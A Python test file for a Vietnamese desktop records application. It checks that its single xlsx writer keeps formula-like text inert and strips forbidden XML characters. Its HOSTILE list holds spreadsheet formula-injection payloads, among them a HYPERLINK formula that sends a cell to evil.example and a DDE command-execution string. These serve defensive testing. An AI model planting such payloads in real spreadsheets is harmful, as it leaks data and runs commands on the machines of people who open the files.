"""The one xlsx writer: text that looks like a formula stays text; XML-forbidden characters go.

A name typed as `=HYPERLINK(…)` (in the window, in an imported list, or in a bundle from another
office) used to become a live formula in the register extract, the audit export and every
"Xuất Excel" list. Every export goes through `desktop.core.spreadsheet.write_table`.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from desktop.core import attendance, audit_log, catalogues, events, people, reports, spreadsheet

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"Bấm vào đây")',
    "+84 912 345 678",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
]


def _cells(path: Path) -> list:
    sheet = load_workbook(path).active
    return [row for row in sheet.iter_rows(min_row=2)]


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode("utf-8")


def test_formula_like_text_is_stored_as_text(tmp_path):
    path = tmp_path / "a.xlsx"
    spreadsheet.write_table(path, "Danh sách", [("Họ tên", "text")], [[v] for v in HOSTILE])
    cells = [row[0] for row in _cells(path)]
    # Without lxml, XML turns a stored carriage return into a line feed (with lxml, which
    # python-docx brings, it is kept as written); it stays text all the same.
    assert [cell.value.replace("\r", "\n") for cell in cells] == [
        v.replace("\r", "\n") for v in HOSTILE
    ]
    assert all(cell.data_type == "s" for cell in cells)
    assert all(cell.quotePrefix for cell in cells)
    assert "<f>" not in _sheet_xml(path)


def test_numbers_and_dates_keep_their_types(tmp_path):
    path = tmp_path / "a.xlsx"
    spreadsheet.write_table(
        path, "T", [("Số", "int"), ("Ngày", "date")], [[-5, "2026-08-19"], [12, None]]
    )
    first = _cells(path)[0]
    assert first[0].value == -5 and first[0].data_type == "n"
    assert first[1].is_date


def test_xml_forbidden_characters_are_removed_not_fatal(tmp_path):
    path = tmp_path / "a.xlsx"
    count = spreadsheet.write_table(
        path, "Tên\x00[lạ]:*?", [("Ghi chú\x0b", "text")], [["Nguyễn\x01 Văn\x1f An\x0c"]]
    )
    assert count == 1
    sheet = load_workbook(path).active
    assert sheet["A1"].value == "Ghi chú"
    assert sheet["A2"].value == "Nguyễn Văn An"


@pytest.fixture
def hostile_person(commune_db):
    """A person named like a formula who took part in a held event of the campaign."""
    db = commune_db
    person = people.create_person(db, people.PersonInput(full_name=HOSTILE[0], birth_year=1980))
    event_type = catalogues.event_types(db, db.campaign_uid)[0].uid
    event = events.create_event(
        db,
        events.EventInput(
            campaign_uid=db.campaign_uid,
            event_type_uid=event_type,
            title="Họp dân",
            start_date="2026-08-19",
            level="xa",
            status="held",
            count_total=10,
            place="Hội trường",
        ),
    )
    attendance.add(db, event, person)
    return db


def test_register_extract_keeps_a_hostile_name_as_text(hostile_person, tmp_path):
    request = reports.request_from_text(hostile_person, "trich-danh-sach", None, "all")
    path = tmp_path / "trich.xlsx"
    reports.write(hostile_person, request, path)
    assert "<f>" not in _sheet_xml(path)
    values = [cell.value for row in _cells(path) for cell in row]
    assert HOSTILE[0] in values


def test_audit_export_keeps_a_hostile_name_as_text(hostile_person, tmp_path):
    path = tmp_path / "nhat-ky.xlsx"
    audit_log.export_xlsx(hostile_person, audit_log.AuditFilter(), path)
    assert "<f>" not in _sheet_xml(path)


def test_every_xlsx_writer_is_the_one_in_spreadsheet():
    """No other module of the program builds a workbook: one place carries the safety rules."""
    root = Path(__file__).resolve().parents[2] / "desktop"
    writers = [
        path.relative_to(root).as_posix()
        for path in root.rglob("*.py")
        if "Workbook(" in path.read_text(encoding="utf-8")
        or "xlsxwriter" in path.read_text(encoding="utf-8")
    ]
    assert writers == ["core/spreadsheet.py"]
